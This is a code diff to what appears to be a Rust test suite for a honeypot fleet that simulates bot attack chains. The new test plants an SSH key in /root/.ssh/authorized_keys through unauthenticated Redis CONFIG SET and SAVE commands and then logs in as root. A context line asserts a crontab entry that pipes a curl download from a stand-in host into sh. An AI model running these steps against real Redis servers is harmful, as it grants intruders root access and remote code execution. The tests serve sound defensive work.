@@ -1,7 +1,7 @@
 //! The chains that bots run: a crontab and a key through redis, a loader through Telnet.
 
 use crate::{
-    client_ssh::ssh,
+    client_ssh::{OPTIONS, ssh},
     fleet::{Fleet, client, have, printed},
     telnet::Telnet,
 };
@@ -51,6 +51,38 @@ fn redis_plants_a_crontab_and_a_key_that_the_shell_shows() {
         "crontab -l | strings | grep curl; grep -a -c ssh-ed25519 /root/.ssh/authorized_keys",
     );
     assert_eq!(seen, "* * * * * curl -fsSL http://198.51.100.7/x.sh|sh\n1\n");
+}
+
+#[test]
+fn a_key_planted_through_redis_lets_its_owner_in() {
+    if !have("redis-cli", "redis-tools") || !have("ssh-keygen", "openssh-client") {
+        return;
+    }
+    let fleet = Fleet::deploy(70, "deny");
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("key").to_str().unwrap().to_owned();
+    assert!(client("ssh-keygen", &["-q", "-t", "ed25519", "-N", "", "-f", &path]).status.success());
+    let enter = || {
+        let target = format!("root@{}", fleet.ip(0));
+        let mut arguments = vec!["-p", "10022", "-i", &path, "-o", "BatchMode=yes"];
+        arguments.extend(&OPTIONS[..OPTIONS.len() - 2]);
+        arguments.extend([&target, "whoami; hostname > /tmp/was-here"]);
+        printed(&client("ssh", &arguments))
+    };
+    assert!(enter().contains("Permission denied"));
+    let public = format!("\n\n{}\n", std::fs::read_to_string(format!("{path}.pub")).unwrap());
+    for words in [
+        &["CONFIG", "SET", "dir", "/root/.ssh"][..],
+        &["CONFIG", "SET", "dbfilename", "authorized_keys"],
+        &["SET", "x", &public],
+        &["SAVE"],
+    ] {
+        assert_eq!(redis(&fleet, words), "OK", "{words:?}");
+    }
+    assert_eq!(enter(), "root\n");
+    fleet.wait_for_text("key_offer", "outcome", "rejected");
+    fleet.wait_for_text("key_offer", "outcome", "accepted");
+    fleet.wait_for_text("session_start", "auth_method", "publickey");
 }
 
 /// What a Mirai-like loader drops: a program with every byte value.
